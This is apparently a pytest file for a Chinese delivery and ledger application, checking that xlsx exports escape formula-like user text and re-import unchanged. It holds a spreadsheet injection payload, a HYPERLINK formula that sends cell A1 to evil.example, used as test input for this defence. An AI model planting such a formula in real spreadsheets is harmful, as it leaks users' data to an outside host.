"""Every xlsx export writes user text as text: a name like =HYPERLINK(...) never becomes a
live formula, and the ledger export still imports back unchanged."""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker

from baogong.adapters.excel import FORMULA_START, as_text, from_text
from baogong.audit.models import Source
from baogong.audit.service import Actor
from baogong.db import unit_of_work
from baogong.demand import manifest_files, orders, queries
from baogong.demand.models import Channel
from baogong.ledger.excel import importer
from baogong.ledger.excel.export import export_ledger
from baogong.ledger.models import Enterprise, Site
from baogong.sample.generator import Size, generate
from baogong.sample.load import load

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击领取")'
COMPOUND = "440111016001-01"


@pytest.fixture
def city(factory: sessionmaker[Session]) -> sessionmaker[Session]:
    """The small sample city, committed."""
    with unit_of_work(factory) as s:
        load(s, generate(9, Size.SMALL))
    return factory


def _cells(path: Path) -> list[tuple[str, object]]:
    """(data type, value) of every filled cell of a workbook."""
    wb = load_workbook(path)
    return [(c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.value is not None]


@pytest.mark.parametrize("start", FORMULA_START)
def test_text_that_starts_a_formula_gets_an_apostrophe_and_loses_it_on_import(
    start: str,
) -> None:
    """Each OWASP formula start is escaped on the way out and restored on the way in."""
    value = f"{start}1+1"
    assert as_text(value) == f"'{value}"
    assert from_text(as_text(value)) == value
    assert as_text("萧岗花园") == "萧岗花园" and as_text(-5) == -5


def test_a_resident_named_like_a_formula_stays_text_in_the_manifest(
    city: sessionmaker[Session], tmp_path: Path,
) -> None:
    """The manifest xlsx holds the resident's name as text, not a formula."""
    with unit_of_work(city) as s:
        orders.submit(s, orders.OrderIn(COMPOUND, Channel.PHONE, orders.HouseholdIn(
            "2", "101", "13800001234", "1", resident=EVIL), [orders.LineIn(1, pack="veg-10")]),
            owner="staff", at=datetime(2022, 4, 9, 2, 0, tzinfo=UTC))
    with city() as s:
        point, rows = queries.manifest(s, handoff_code=f"H-{COMPOUND}", day=date(2022, 4, 9))
    path = tmp_path / "manifest.xlsx"
    manifest_files.write_xlsx(path, point, rows, date(2022, 4, 9))
    cells = _cells(path)
    assert ("s", "'" + EVIL) in cells
    assert not [c for c in cells if c[0] == "f"]


def test_ledger_export_writes_formula_text_as_text_and_imports_it_back(
    city: sessionmaker[Session], tmp_path: Path,
) -> None:
    """An enterprise name and a site address that look like formulas are exported as text,
    and importing the export changes nothing."""
    with unit_of_work(city) as s:
        ent = s.scalars(select(Enterprise).order_by(Enterprise.id)).first()
        assert ent is not None
        ent.name = EVIL
        s.execute(update(Site).where(Site.enterprise_id == ent.id).values(address="@SUM(A1)"))
    path = tmp_path / "ledger.xlsx"
    with city() as s:
        export_ledger(s, path)
    cells = _cells(path)
    assert ("s", "'" + EVIL) in cells and ("s", "'@SUM(A1)") in cells
    assert not [c for c in cells if c[0] == "f"]
    raw = importer.read(path)
    assert not isinstance(raw, importer.Problem)
    with city() as s:
        report = importer.import_sheets(s, raw, file_name="ledger.xlsx",
                                        actor=Actor("tester", Source.FILE))
        assert report.errors == []
        assert all(t.created == t.updated == 0 for t in report.tallies.values())
        s.rollback()
